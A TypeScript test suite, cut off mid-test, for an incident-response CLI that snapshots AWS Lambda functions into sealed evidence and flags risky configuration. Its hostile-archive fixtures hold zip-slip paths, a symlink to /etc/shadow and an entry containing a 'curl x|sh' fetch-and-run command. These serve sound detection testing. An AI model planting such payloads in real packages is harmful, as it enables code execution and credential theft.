import type { ChildProcess } from 'node:child_process'
import { createHash, randomBytes } from 'node:crypto'
import { readdir, readFile, stat, writeFile } from 'node:fs/promises'
import { createServer, request as httpRequest, type Server } from 'node:http'
import type { AddressInfo, Socket } from 'node:net'
import { join, relative } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { beforeAll, describe, expect, it } from 'vitest'
import { CaseHandle } from '../../src/core/case/case-folder.js'
import { exists } from '../../src/core/common/fs-safe.js'
import { runFir, tempDir } from '../support/cli.js'
import { useMoto } from '../support/emulator.js'
import { FaultProxy } from '../support/fault-proxy.js'
import {
  type CompromisedScenario,
  hostileZip,
  makeZip,
  publishVersion,
  seedAlias,
  seedCompromisedFunction,
  seedFunction,
  seedLayer,
  seedRole,
  setLayers,
  TEST_ACCOUNT,
} from '../support/seed.js'

const moto = useMoto()

async function walk(dir: string): Promise<string[]> {
  const out: string[] = []
  for (const e of await readdir(dir, { withFileTypes: true })) {
    const p = join(dir, e.name)
    if (e.isDirectory()) out.push(...(await walk(p)))
    else out.push(p)
  }
  return out
}

/** A fresh case folder (made in-process: each CLI start costs seconds on a busy machine). */
async function newCase(id = 'INC-1'): Promise<{ cwd: string; caseDir: string }> {
  const cwd = await tempDir('fir-snap-')
  const handle = await CaseHandle.init(id, { cwd, firVersion: 'test' })
  await handle.close()
  return { cwd, caseDir: join(cwd, 'cases', id) }
}

function manifestOf(caseDir: string, set: string): Promise<{ files: { path: string; sha256: string }[] }> {
  return readFile(join(caseDir, 'evidence', set, 'manifest.json'), 'utf8').then(JSON.parse)
}

describe('fir snapshot (built CLI against moto): the compromised function of issue 3', () => {
  let s: CompromisedScenario
  let cwd: string
  let caseDir: string
  let json: any
  let human: { stdout: string; stderr: string }
  let jsonRun: { stdout: string; stderr: string }

  beforeAll(async () => {
    s = await seedCompromisedFunction(moto.endpoint(), { name: 'orders-api' })
    ;({ cwd, caseDir } = await newCase())
    const r = await runFir(['snapshot', 'orders-api', '--case', 'cases/INC-1', '--json'], {
      cwd,
      endpoint: moto.endpoint(),
    })
    jsonRun = r
    json = r.json
    expect(r.code, r.stderr).toBe(4)
    const h = await runFir(['snapshot', s.functionArn, '--case', 'cases/INC-1'], {
      cwd,
      endpoint: moto.endpoint(),
    })
    expect(h.code, h.stderr).toBe(4)
    human = h
  })

  it('exits 4 naming only the gaps moto causes (provisioned concurrency, layer content), with everything else collected', () => {
    expect(json.status).toBe(4)
    const gaps = json.gaps.map((g: { call: string }) => g.call).sort()
    expect(gaps).toEqual(['lambda:GetLayerVersion', 'lambda:ListProvisionedConcurrencyConfigs'])
    expect(json.gaps.find((g: any) => g.call === 'lambda:ListProvisionedConcurrencyConfigs').reason).toMatch(
      /^unimplemented/,
    )
  })

  it('stores every item of the function in the evidence set and lists each in the manifest', async () => {
    const set = json.result.set as string
    const manifest = await manifestOf(caseDir, set)
    const paths = new Set(manifest.files.map((f) => f.path))
    const fn = 'functions/orders-api'
    const expected = [
      'caller/get-caller-identity.json',
      'summary.json',
      'findings.json',
      'calls.json',
      ...['$LATEST', '1', '2', '3', 'live', 'previous'].flatMap((q) => [
        `${fn}/get-function.${q}.json`,
        `${fn}/get-policy.${q}.json`,
      ]),
      ...['$LATEST', 'live', 'previous'].map((q) => `${fn}/get-function-url-config.${q}.json`),
      `${fn}/list-versions-by-function.page-1.json`,
      `${fn}/list-aliases.page-1.json`,
      'lambda/us-east-1/list-event-source-mappings.page-1.json',
      `${fn}/get-function-concurrency.json`,
      `${fn}/list-function-event-invoke-configs.page-1.json`,
      `${fn}/get-function-code-signing-config.json`,
      `${fn}/logs/filter-log-events.page-1.json`,
      `layers/123456789012/us-east-1/orders-api-utils/1/get-layer-version.json`,
      'iam/roles/orders-api-role/get-role.json',
      'iam/roles/orders-api-role/list-role-policies.page-1.json',
      'iam/roles/orders-api-role/get-role-policy.lateral-movement.json',
      'iam/roles/orders-api-role/list-attached-role-policies.page-1.json',
      'iam/policies/123456789012/orders-api-data-access/get-policy.json',
      'iam/policies/123456789012/orders-api-data-access/get-policy-version.v2.json',
      'iam/policies/123456789012/orders-api-role-boundary/get-policy-version.v1.json',
      'cloudtrail/us-east-1/describe-trails.json',
    ]
    for (const p of expected) expect(paths, p).toContain(p)
    // Every file on disk is in the manifest, and nothing else is there (case verify checks it too).
    const onDisk = (await walk(join(caseDir, 'evidence', set))).map((p) =>
      relative(join(caseDir, 'evidence', set), p),
    )
    expect(onDisk.sort()).toEqual([...paths, 'manifest.json'].sort())

    // Responses are verbatim: the resource policy names every statement, the mapping its queue.
    const policy = JSON.parse(
      await readFile(join(caseDir, 'evidence', set, fn, 'get-policy.$LATEST.json'), 'utf8'),
    )
    for (const sid of Object.values(s.statements)) expect(policy.Policy).toContain(sid)
    const esm = await readFile(
      join(caseDir, 'evidence', set, 'lambda/us-east-1/list-event-source-mappings.page-1.json'),
      'utf8',
    )
    expect(esm).toContain(s.queue.queueArn)
    const conc = JSON.parse(
      await readFile(join(caseDir, 'evidence', set, fn, 'get-function-concurrency.json'), 'utf8'),
    )
    expect(conc).toEqual({ ReservedConcurrentExecutions: 5 })
  })

  it("stores $LATEST's package with SHA-256 equal to CodeSha256, and reports older versions whose bytes do not match", async () => {
    const f = json.result.functions[0]
    expect(f.code).toBe('match')
    const bytes = await readFile(join(json.result.dir, f.codeFile))
    expect(createHash('sha256').update(bytes).digest('base64')).toBe(s.codeSha256.$LATEST)
    expect(bytes.equals(s.latestZip)).toBe(true)
    expect(f.versions.map((v: any) => [v.version, v.code])).toEqual([
      ['1', 'mismatch'],
      ['2', 'mismatch'],
      ['3', 'match'],
    ])
    const integrity = json.result.findings.filter((x: any) => x.kind === 'code-integrity')
    expect(integrity.flatMap((x: any) => x.detail.qualifiers).sort()).toEqual(['1', '2', 'previous'])
  })

  it('summarises versions, aliases, layer, URL, mapping, concurrency, role and findings', () => {
    const f = json.result.functions[0]
    expect(f).toMatchObject({
      name: 'orders-api',
      arn: s.functionArn,
      runtime: 'python3.12',
      role: s.role.arn,
      roleName: 'orders-api-role',
      reservedConcurrency: 5,
      url: { url: s.url, authType: 'NONE' },
    })
    expect(f.aliases).toEqual([
      { name: 'live', version: '3' },
      { name: 'previous', version: '2', routing: { '3': 0.1 } },
    ])
    expect(f.layers).toEqual([
      expect.objectContaining({ arn: s.layer.layerVersionArn, code: 'not-downloaded' }),
    ])
    expect(f.eventSourceMappings).toEqual([
      { uuid: s.queue.uuid, source: s.queue.queueArn, state: 'Enabled' },
    ])
    expect(f.accessKeyIds).toEqual([s.secrets.accessKeyId])
    expect(f.secrets.map((x: any) => [x.name, x.kind])).toEqual([
      ['DEPLOY_SECRET_ACCESS_KEY', 'aws-secret-access-key'],
      ['DB_PASSWORD', 'secret-by-name'],
    ])
    expect(f.riskyPermissions.map((r: any) => [r.action, r.policy, r.statement.Sid])).toEqual(
      expect.arrayContaining([
        ['iam:PassRole', 'inline:lateral-movement', 'PassAnyRole'],
        ['sts:AssumeRole', 'inline:lateral-movement', 'AssumeAnything'],
        ['s3:*', s.role.managedArns['orders-api-data-access'], 'AllOfS3'],
        ['secretsmanager:GetSecretValue', s.role.managedArns['orders-api-data-access'], 'EverySecret'],
      ]),
    )
    // Exposure: the URL (NONE, both grants: critical), the two public statements; not the scoped API Gateway one.
    const exposure = f.exposure.map((x: any) => [x.kind, x.sid ?? x.url, x.level])
    expect(exposure).toEqual(
      expect.arrayContaining([
        ['function-url', s.url, 'critical'],
        ['resource-policy', s.statements.publicInvoke, 'critical'],
        ['resource-policy', s.statements.publicUrl, 'high'],
      ]),
    )
    expect(JSON.stringify(f.exposure)).not.toContain(s.statements.apiGatewayScoped)
    const kinds = new Set(json.result.findings.map((x: any) => x.kind))
    for (const k of [
      'secret-in-environment',
      'access-key-in-environment',
      'risky-permission',
      'public-url',
      'public-statement',
    ])
      expect(kinds, k).toContain(k)
    const key = json.result.findings.find((x: any) => x.kind === 'access-key-in-environment')
    expect(key).toMatchObject({
      level: 'critical',
      detail: { accessKeyId: s.secrets.accessKeyId, secretIn: 'DEPLOY_SECRET_ACCESS_KEY' },
    })
  })

  it('prints the same facts for people: function, runtime, last modified, hash, role, risky permissions, exposure, redacted secrets, gaps', () => {
    const out = human.stdout
    for (const text of [
      'Function orders-api',
      'runtime       python3.12',
      'last modified',
      s.codeSha256.$LATEST,
      s.role.arn,
      'iam:PassRole on *',
      'AuthType NONE',
      'DB_PASSWORD = ‹redacted len=',
      'DEPLOY_SECRET_ACCESS_KEY = ‹redacted len=40',
      'Gaps (2)',
    ])
      expect(out, text).toContain(text)
  })

  it('keeps every secret value out of stdout, stderr, --json, the journal, summary and findings (only evidence holds them)', async () => {
    const secrets = [s.secrets.secretAccessKey, s.secrets.password]
    const set = json.result.set as string
    const places: [string, string][] = [
      ['stdout', human.stdout],
      ['stderr', human.stderr],
      ['--json', jsonRun.stdout],
      ['--json stderr', jsonRun.stderr],
      ['journal', await readFile(join(caseDir, 'journal.jsonl'), 'utf8')],
      ['summary.json', await readFile(join(caseDir, 'evidence', set, 'summary.json'), 'utf8')],
      ['findings.json', await readFile(join(caseDir, 'evidence', set, 'findings.json'), 'utf8')],
    ]
    // The report of the case (another process: it only sees redacted findings and summaries).
    const report = await runFir(['report', '--case', 'cases/INC-1'], { cwd })
    expect(report.code, report.stderr).toBe(0)
    places.push(['report.md', await readFile(join(caseDir, 'reports', 'report.md'), 'utf8')])
    places.push(['report.html', await readFile(join(caseDir, 'reports', 'report.html'), 'utf8')])
    expect(places.at(-2)![1]).toContain('‹redacted len=')
    for (const [where, text] of places)
      for (const secret of secrets) expect(text.includes(secret), `${where} leaks`).toBe(false)
    // The raw GetFunction response in evidence/ keeps them: that is the evidence.
    const raw = await readFile(
      join(caseDir, 'evidence', set, 'functions/orders-api/get-function.$LATEST.json'),
      'utf8',
    )
    expect(raw).toContain(s.secrets.password)
    // The journal records the seal and the run with fir's request ids.
    const journal = (await readFile(join(caseDir, 'journal.jsonl'), 'utf8'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l))
    const seal = journal.find((e: any) => e.action === 'evidence.seal' && e.params.set === set)
    expect(seal.params.manifestSha256).toBe(json.result.manifestSha256)
    const run = journal.find((e: any) => e.action === 'snapshot' && e.params.set === set)
    expect(run.requestIds.length).toBeGreaterThan(20)
  })

  it('case verify exits 0, then 3 naming the file after one evidence byte is changed', async () => {
    expect((await runFir(['case', 'verify', '--case', 'cases/INC-1'], { cwd })).code).toBe(0)
    const rel = `evidence/${json.result.set}/functions/orders-api/get-policy.$LATEST.json`
    const path = join(caseDir, rel)
    const original = await readFile(path)
    const bytes = Buffer.from(original)
    bytes[10] = bytes[10]! ^ 0x20
    await writeFile(path, bytes)
    try {
      const r = await runFir(['case', 'verify', '--case', 'cases/INC-1', '--json'], { cwd })
      expect(r.code).toBe(3)
      expect(r.json.result.problems).toEqual([expect.objectContaining({ kind: 'changed', path: rel })])
    } finally {
      // The byte put back: the other tests of this case read the same evidence, in any order.
      await writeFile(path, original)
    }
    expect((await runFir(['case', 'verify', '--case', 'cases/INC-1'], { cwd })).code).toBe(0)
  })
})

describe('fir snapshot (built CLI against moto): gaps, hostile code, blast radius, scale, Object Lock', () => {
  it('a fault proxy denying GetPolicy ends in exit 4 with that gap named and everything else present', async () => {
    const s = await seedCompromisedFunction(moto.endpoint(), { logEvents: false })
    const proxy = await new FaultProxy(moto.endpoint(), {
      rules: [{ match: 'GetPolicy', fault: 'access-denied' }],
    }).start()
    try {
      const { cwd } = await newCase()
      const r = await runFir(['snapshot', s.functionName, '--case', 'cases/INC-1', '--json'], {
        cwd,
        endpoint: proxy.endpoint,
      })
      expect(r.code, r.stderr).toBe(4)
      const policyGaps = r.json.gaps.filter((g: any) => g.call === 'lambda:GetPolicy')
      expect(policyGaps.length).toBe(6)
      expect(policyGaps[0].reason).toMatch(/^denied: AccessDeniedException/)
      expect(policyGaps.map((g: any) => g.what)).toContain(`resource policy ($LATEST) of ${s.functionName}`)
      const manifest = await manifestOf(join(cwd, 'cases', 'INC-1'), r.json.result.set)
      const paths = manifest.files.map((f) => f.path)
      expect(paths.some((p) => p.includes('get-policy'))).toBe(false)
      for (const q of ['$LATEST', '1', '2', '3', 'live', 'previous'])
        expect(paths).toContain(`functions/${s.functionName}/get-function.${q}.json`)
      expect(paths).toContain(`iam/roles/${s.role.name}/get-role.json`)
      expect(paths.some((p) => /^code\/[0-9a-f]{64}\.zip$/.test(p))).toBe(true)
      // The URL is still reported; without the policy fir cannot tell whether * may call it.
      expect(r.json.result.functions[0].exposure).toEqual([
        expect.objectContaining({
          kind: 'function-url',
          level: 'high',
          grants: { invokeFunctionUrl: false, invokeFunction: false },
        }),
      ])
      expect(r.json.result.functions[0].gaps.map((g: any) => g.call)).toContain('lambda:GetPolicy')
    } finally {
      await proxy.stop()
    }
  })

  it('a denied GetFunctionConcurrency prints reserved concurrency as unknown with the reason, never "unreserved"', async () => {
    const role = await seedRole(moto.endpoint(), { name: 'concurrency-denied-role' })
    const fn = await seedFunction(moto.endpoint(), { name: 'concurrency-denied', roleArn: role.arn })
    const proxy = await new FaultProxy(moto.endpoint(), {
      rules: [{ match: 'GetFunctionConcurrency', fault: 'access-denied' }],
    }).start()
    try {
      const { cwd } = await newCase()
      const r = await runFir(['snapshot', fn.name, '--case', 'cases/INC-1'], {
        cwd,
        endpoint: proxy.endpoint,
      })
      expect(r.code, r.stderr).toBe(4)
      expect(proxy.records.some((x) => x.operation === 'GetFunctionConcurrency' && x.faulted)).toBe(true)
      const line = r.stdout.split('\n').find((l) => /^\s+concurrency\s/.test(l))
      expect(line, r.stdout).toMatch(/^\s+concurrency\s+unknown: denied: AccessDeniedException\b/)
      expect(line).toContain('lambda:GetFunctionConcurrency')
      expect(r.stdout).not.toMatch(/concurrency\s+unreserved/)
    } finally {
      await proxy.stop()
    }
  })

  it("flags a layer another account published, and the report's impact names it", async () => {
    const role = await seedRole(moto.endpoint(), { name: 'foreign-layer-role' })
    const layer = await seedLayer(moto.endpoint(), 'perf-utils')
    const fn = await seedFunction(moto.endpoint(), {
      name: 'foreign-layer-fn',
      roleArn: role.arn,
      layers: [layer.layerVersionArn],
    })
    // moto refuses another account's layer on a function: its GetFunction answers say what AWS's
    // would after `update-function-configuration --layers arn:…:999999999999:layer:…`.
    const foreign = layer.layerVersionArn.replace(`:${TEST_ACCOUNT}:`, ':999999999999:')
    const proxy = await new FaultProxy(moto.endpoint(), {
      rewrites: [{ match: 'GetFunction', body: (t) => t.replaceAll(layer.layerVersionArn, foreign) }],
    }).start()
    try {
      const { cwd } = await newCase()
      const r = await runFir(['snapshot', fn.name, '--case', 'cases/INC-1', '--json'], {
        cwd,
        endpoint: proxy.endpoint,
      })
      expect([0, 4], r.stderr).toContain(r.code)
      expect(r.json.result.findings.filter((f: any) => f.kind === 'foreign-layer')).toEqual([
        expect.objectContaining({
          level: 'medium',
          title: `${fn.name} runs layer ${foreign}, published by account 999999999999, not this one: that account controls code inside the function (check it is a publisher you trust)`,
          detail: { layer: foreign, account: '999999999999', qualifiers: ['$LATEST'] },
        }),
      ])
      const report = await runFir(['report', '--case', 'cases/INC-1', '--format', 'md'], { cwd })
      expect(report.code, report.stderr).toBe(0)
      const md = await readFile(join(cwd, 'cases', 'INC-1', 'reports', 'report.md'), 'utf8')
      expect(md).toContain(`- ${fn.name} runs code that another account published: ${foreign}.`)
    } finally {
      await proxy.stop()
    }
  })

  it("--qualifier shows that qualifier's layers; --json names the qualifiers that run each layer", async () => {
    const role = await seedRole(moto.endpoint(), { name: 'layered-role' })
    const good = await seedLayer(moto.endpoint(), 'good-utils')
    const evil = await seedLayer(moto.endpoint(), 'evil-ext')
    const fn = await seedFunction(moto.endpoint(), {
      name: 'layered',
      roleArn: role.arn,
      layers: [good.layerVersionArn],
    })
    const v1 = await publishVersion(moto.endpoint(), fn.name, { description: 'clean' })
    // The backdoored layer sits on version 2 (and alias live) only; $LATEST is clean again.
    await setLayers(moto.endpoint(), fn.name, [good.layerVersionArn, evil.layerVersionArn])
    const v2 = await publishVersion(moto.endpoint(), fn.name, { description: 'backdoored' })
    await setLayers(moto.endpoint(), fn.name, [good.layerVersionArn])
    await seedAlias(moto.endpoint(), fn.name, 'live', v2)
    const { cwd } = await newCase()
    const args = ['snapshot', fn.name, '--qualifier', v1, '--case', 'cases/INC-1']
    const r = await runFir([...args, '--json'], { cwd, endpoint: moto.endpoint() })
    expect([0, 4], r.stderr).toContain(r.code)
    const f = r.json.result.functions[0]
    expect(f.qualifier).toBe(v1)
    expect(f.layers.map((l: { arn: string; qualifiers: string[] }) => [l.arn, l.qualifiers])).toEqual([
      [good.layerVersionArn, ['$LATEST', v1, v2, 'live']],
      [evil.layerVersionArn, [v2, 'live']],
    ])
    const h = await runFir(args, { cwd, endpoint: moto.endpoint() })
    expect([0, 4], h.stderr).toContain(h.code)
    const line = (label: string) =>
      h.stdout.split('\n').find((l) => l.startsWith(`  ${label.padEnd(14)}`)) ?? ''
    expect(line('layers')).toContain(good.layerVersionArn)
    expect(line('layers')).not.toContain(evil.layerVersionArn)
    expect(line('other layers')).toContain(`${evil.layerVersionArn} (not-downloaded; ${v2}, live)`)
  })

  it('lists a hostile package (zip-slip, symlink, 1000:1 bomb) and writes nothing outside the case', async () => {
    const role = await seedRole(moto.endpoint(), { name: 'hostile-role' })
    await seedFunction(moto.endpoint(), { name: 'hostile', roleArn: role.arn, zip: hostileZip(8) })
    const { cwd, caseDir } = await newCase()
    const before = await walk(cwd)
    const absExisted = await exists('/tmp/abs-path.txt')
    const r = await runFir(['snapshot', 'hostile', '--case', 'cases/INC-1', '--json'], {
      cwd,
      endpoint: moto.endpoint(),
    })
    expect(r.code, r.stderr).toBe(4)
    const hostile = r.json.result.findings.filter((f: any) => f.kind === 'hostile-archive')
    expect(hostile.map((f: any) => [f.detail.problem, f.level]).sort()).toEqual([
      ['symlink', 'high'],
      ['zip-bomb', 'high'],
      ['zip-slip', 'high'],
    ])
    const slip = hostile.find((f: any) => f.detail.problem === 'zip-slip')
    expect(slip.detail.problems.map((p: any) => p.entry)).toEqual([
      '../../evil.sh',
      '/tmp/abs-path.txt',
      '..\\..\\win-evil.bat',
    ])
    const listing = JSON.parse(
      await readFile(
        join(
          r.json.result.dir,
          slip.evidence.find((e: string) => e.endsWith('.listing.json')),
        ),
        'utf8',
      ),
    )
    expect(listing.entries.map((e: any) => e.name)).toContain('bomb.bin')
    // Nothing was extracted: new files are only the case's own, and no entry landed anywhere.
    const after = await walk(cwd)
    const added = after.filter((p) => !before.includes(p))
    expect(added.every((p) => p.startsWith(caseDir))).toBe(true)
    expect(added.some((p) => /evil|abs-path|win-evil|link-to-passwd|bomb\.bin/.test(p))).toBe(false)
    expect(await exists(join(cwd, '..', 'evil.sh'))).toBe(false)
    expect(await exists(join(caseDir, '..', '..', 'evil.sh'))).toBe(false)
    expect(await exists('/tmp/abs-path.txt')).toBe(absExisted)
  })

  it('lists every entry of a package whose stored entry lies about its size by one byte: the lie, and the zip-slip and symlink after it, are flagged', async () => {
    const role = await seedRole(moto.endpoint(), { name: 'hider-role' })
    const zip = makeZip([
      { name: 'index.py', data: 'def handler(e,c):\n  return 1\n' },
      { name: 'liar.bin', data: 'small', declaredUncompressedSize: 6 },
      { name: '../../../../var/task/evil.sh', data: 'curl x|sh' },
      { name: 'lnk', data: '/etc/shadow', mode: 0o120777, method: 'store' },
    ])
    await seedFunction(moto.endpoint(), { name: 'hider', roleArn: role.arn, zip })
    const { cwd } = await newCase()
    const r = await runFir(['snapshot', 'hider', '--case', 'cases/INC-1', '--json'], {
      cwd,
      endpoint: moto.endpoint(),
    })
    expect(r.code, r.stderr).toBe(4)
    const hostile = r.json.result.findings.filter((f: any) => f.kind === 'hostile-archive')
    expect(hostile.map((f: any) => [f.detail.problem, f.level]).sort()).toEqual([
      ['size-mismatch', 'high'],
      ['symlink', 'high'],
      ['zip-slip', 'high'],
    ])
    const slip = hostile.find((f: any) => f.detail.problem === 'zip-slip')
    expect(slip.detail.problems.map((p: any) => p.entry)).toEqual(['../../../../var/task/evil.sh'])
    expect(hostile.find((f: any) => f.detail.problem === 'size-mismatch').title).toContain('"liar.bin"')
    const listing = JSON.parse(
      await readFile(
        join(
          r.json.result.dir,
          slip.evidence.find((e: string) => e.endsWith('.listing.json')),
        ),
        'utf8',
      ),
    )
    expect(listing.entries.map((e: any) => e.name)).toEqual([
      'index.py',
      'liar.bin',
      '../../../../var/task/evil.sh',
      'lnk',
    ])
    expect(listing.entries[3].linkTarget).toBe('/etc/shadow')
  })

  it('flags a package entry whose data does not match its CRC-32 (high), and its listing says so', async () => {
    const role = await seedRole(moto.endpoint(), { name: 'crc-role' })
    const zip = makeZip([
      { name: 'index.py', data: 'def handler(e,c):\n  return 1\n' },
      { name: 'bad', data: 'hello world', method: 'store' },
    ])
    // Both records of `bad` declare CRC-32 deadbeef: unzip and Python's zipfile refuse it.
    const central = zip.readUInt32LE(zip.length - 6) + 46 + 'index.py'.length
    zip.writeUInt32LE(0xdeadbeef, central + 16)
    zip.writeUInt32LE(0xdeadbeef, zip.readUInt32LE(central + 42) + 14)
    await seedFunction(moto.endpoint(), { name: 'crcfn', roleArn: role.arn, zip })
    const { cwd } = await newCase()
    const r = await runFir(['snapshot', 'crcfn', '--case', 'cases/INC-1', '--json'], {
      cwd,
      endpoint: moto.endpoint(),
    })
    expect(r.code, r.stderr).toBe(4)
    const hostile = r.json.result.findings.filter((f: any) => f.kind === 'hostile-archive')
    expect(hostile.map((f: any) => [f.detail.problem, f.level])).toEqual([['crc-mismatch', 'high']])
    expect(hostile[0].title).toContain('"bad"')
    const listing = JSON.parse(
      await readFile(
        join(
          r.json.result.dir,
          hostile[0].evidence.find((e: string) => e.endsWith('.listing.json')),
        ),
        'utf8',
      ),
    )
    expect(listing.problems).toEqual([
      {
        kind: 'crc-mismatch',
        entry: 'bad',
        detail: expect.stringMatching(
          /^its data has CRC-32 0d4a1185, its central directory record declares deadbeef:/,
        ),
      },
    ])
    expect(listing.entries[1]).toMatchObject({ name: 'bad', crc32: 'deadbeef' })
  })

  it('--all-using-role snapshots every function running with the role, and only those', async () => {
    const role = await seedRole(moto.endpoint(), { name: 'shared-role' })
    const other = await seedRole(moto.endpoint(), { name: 'other-role' })
    for (const n of ['blast-a', 'blast-b', 'blast-c'])
      await seedFunction(moto.endpoint(), { name: n, roleArn: role.arn })
    await seedFunction(moto.endpoint(), { name: 'bystander', roleArn: other.arn })
    const { cwd } = await newCase()
    const r = await runFir(
      ['snapshot', '--all-using-role', 'shared-role', '--case', 'cases/INC-1', '--json'],
      {
        cwd,
        endpoint: moto.endpoint(),
      },
    )
    expect(r.code, r.stderr).toBe(4)
    expect(r.json.result.functions.map((f: any) => f.name)).toEqual(['blast-a', 'blast-b', 'blast-c'])
    // IAM role names are unique whatever their case: before, another spelling found no function.
    const spelt = await runFir(
      ['snapshot', '--all-using-role', 'Shared-ROLE', '--case', 'cases/INC-1', '--json'],
      { cwd, endpoint: moto.endpoint() },
    )
    expect(spelt.code, spelt.stderr).toBe(4)
    expect(spelt.json.result.functions.map((f: any) => f.name)).toEqual(['blast-a', 'blast-b', 'blast-c'])
    const manifest = await manifestOf(join(cwd, 'cases', 'INC-1'), r.json.result.set)
    expect(manifest.files.map((f) => f.path)).toContain('discovery/us-east-1/list-functions.page-1.json')
    // The role is collected once for all three.
    expect(manifest.files.filter((f) => f.path.endsWith('/get-role.json')).map((f) => f.path)).toEqual([
      'iam/roles/shared-role/get-role.json',
    ])
  })

  it('seals both regions’ layers when a layer of the same name and version is in two regions', async () => {
    // Before: both went to layers/<account>/<name>/<version>/: the second was refused as "already
    // written" and its region's layer was a gap that did not name the region.
    const role = await seedRole(moto.endpoint(), { name: 'two-region-role' })
    for (const region of ['us-east-1', 'eu-west-1']) {
      const layer = await seedLayer(moto.endpoint(), 'twin-layer', undefined, region)
      await seedFunction(moto.endpoint(), {
        name: 'twin-fn',
        roleArn: role.arn,
        region,
        layers: [layer.layerVersionArn],
      })
    }
    const { cwd, caseDir } = await newCase()
    const r = await runFir(
      [
        'snapshot',
        '--all-using-role',
        'two-region-role',
        '--regions',
        'us-east-1,eu-west-1',
        '--case',
        'cases/INC-1',
        '--json',
      ],
      { cwd, endpoint: moto.endpoint() },
    )
    expect(r.stderr).not.toMatch(/already written/)
    const manifest = await manifestOf(caseDir, r.json.result.set)
    expect(
      manifest.files.map((f) => f.path).filter((p) => p.startsWith('layers/') && p.endsWith('.json')),
    ).toEqual(
      expect.arrayContaining([
        `layers/${TEST_ACCOUNT}/us-east-1/twin-layer/1/get-layer-version.json`,
        `layers/${TEST_ACCOUNT}/eu-west-1/twin-layer/1/get-layer-version.json`,
      ]),
    )
    // moto's layer content is not downloadable: that gap names each layer by its region.
    const layerGaps = r.json.gaps.filter((g: { call: string }) => g.call === 'lambda:GetLayerVersion')
    expect(layerGaps.length).toBeGreaterThan(0)
    for (const g of layerGaps) {
      expect(g.what).toContain('twin-layer')
      expect(g.what).toMatch(/us-east-1|eu-west-1/)
    }
  })

  it('seals one set holding both roles when their names differ only in a character a path cannot hold', async () => {
    // Two valid IAM names that a mapping of `,` to `_` stored in one folder: the snapshot crashed
    // (exit 1, a stack trace, no --json) and left its set unfinished.
    const comma = await seedRole(moto.endpoint(), { name: 'pay,ops' })
    const under = await seedRole(moto.endpoint(), { name: 'pay_ops' })
    await seedFunction(moto.endpoint(), { name: 'f-comma', roleArn: comma.arn })
    await seedFunction(moto.endpoint(), { name: 'f-under', roleArn: under.arn })
    const { cwd, caseDir } = await newCase()
    const r = await runFir(['snapshot', 'f-comma', 'f-under', '--case', 'cases/INC-1', '--json'], {
      cwd,
      endpoint: moto.endpoint(),
    })
    expect(r.code, r.stderr).toBe(4)
    expect(r.stderr).not.toMatch(/write-once|already written|\n\s+at /)
    expect(r.json.gaps.map((g: { call: string }) => g.call)).not.toContain('fir')
    expect(await readdir(join(caseDir, 'evidence'))).toEqual([r.json.result.set])
    const manifest = await manifestOf(caseDir, r.json.result.set)
    expect(manifest.files.filter((f) => f.path.endsWith('/get-role.json')).map((f) => f.path)).toEqual(
      expect.arrayContaining(['iam/roles/pay%2Cops/get-role.json', 'iam/roles/pay_ops/get-role.json']),
    )
  })

  it('snapshots a function named twice (name, ARN, partial ARN, name:$LATEST) once, saying so; another qualifier of it gets its own folder', async () => {
    const role = await seedRole(moto.endpoint(), { name: 'twice-role' })
    const fn = await seedFunction(moto.endpoint(), { name: 'twice-fn', roleArn: role.arn })
    const version = await publishVersion(moto.endpoint(), 'twice-fn')
    await seedAlias(moto.endpoint(), 'twice-fn', 'live', version)
    const { cwd, caseDir } = await newCase()
    const r = await runFir(
      [
        'snapshot',
        'twice-fn',
        fn.arn,
        `${TEST_ACCOUNT}:function:twice-fn`,
        'twice-fn:$LATEST',
        'twice-fn',
        '--case',
        'cases/INC-1',
        '--json',
      ],
      { cwd, endpoint: moto.endpoint() },
    )
    expect(r.code, r.stderr).toBe(4)
    expect(r.json.result.functions.map((f: any) => f.arn)).toEqual([fn.arn])
    expect(r.stderr).toContain(
      `note: twice-fn, ${fn.arn}, ${TEST_ACCOUNT}:function:twice-fn, twice-fn:$LATEST name the same function (twice-fn, qualifier $LATEST, in us-east-1): it is snapshotted once`,
    )
    const paths = (await manifestOf(caseDir, r.json.result.set)).files.map((f) => f.path)
    expect(paths).toContain('functions/twice-fn/get-function.$LATEST.json')
    // Sealed under its final name: nothing unfinished is left.
    expect(await readdir(join(caseDir, 'evidence'))).toEqual([r.json.result.set])

    // The same function for two qualifiers: two summaries, each collected into its own folder.
    const q = await runFir(['snapshot', 'twice-fn', 'twice-fn:live', '--case', 'cases/INC-1', '--json'], {
      cwd,
      endpoint: moto.endpoint(),
    })
    expect(q.code, q.stderr).toBe(4)
    expect(q.json.result.functions.map((f: any) => f.qualifier)).toEqual(['$LATEST', 'live'])
    const qPaths = (await manifestOf(caseDir, q.json.result.set)).files.map((f) => f.path)
    expect(qPaths).toContain('functions/twice-fn@us-east-1@$LATEST/get-function.$LATEST.json')
    expect(qPaths).toContain('functions/twice-fn@us-east-1@live/get-function.live.json')
    expect((await readdir(join(caseDir, 'evidence'))).sort()).toEqual(
      [r.json.result.set, q.json.result.set].sort(),
    )
  })

  it('completes a function with 200 versions (paced, bounded concurrency), one package downloaded', async () => {
    const role = await seedRole(moto.endpoint(), { name: 'many-role' })
    await seedFunction(moto.endpoint(), { name: 'many', roleArn: role.arn })
    const { seedManyVersions } = await import('../support/seed.js')
    const versions = await seedManyVersions(moto.endpoint(), 'many', 200)
    expect(versions.at(-1)).toBe('200')
    const { cwd } = await newCase()
    const started = Date.now()
    const r = await runFir(['snapshot', 'many', '--case', 'cases/INC-1', '--json', '--lambda-rps', '150'], {
      cwd,
      endpoint: moto.endpoint(),
      timeoutMs: 180_000,
    })
    const elapsed = Date.now() - started
    expect(r.code, r.stderr).toBe(4)
    const f = r.json.result.functions[0]
    expect(f.versions).toHaveLength(200)
    expect(f.versions.every((v: any) => v.code === 'match')).toBe(true)
    const manifest = await manifestOf(join(cwd, 'cases', 'INC-1'), r.json.result.set)
    const paths = manifest.files.map((x) => x.path)
    expect(paths.filter((p) => /get-function\.\d+\.json$/.test(p))).toHaveLength(200)
    expect(paths.filter((p) => /^code\/.*\.zip$/.test(p))).toHaveLength(1)
    // 200 GetFunction + 200 GetPolicy + ~10 more Lambda calls at 150/s take at least ~2.6 s.
    expect(elapsed).toBeGreaterThan(2_600)
  }, 240_000)

  it('--evidence-bucket copies the sealed set under Object Lock and records retention that HeadObject confirms', async () => {
    const { seedObjectLockBucket, seedBucket, seedClients } = await import('../support/seed.js')
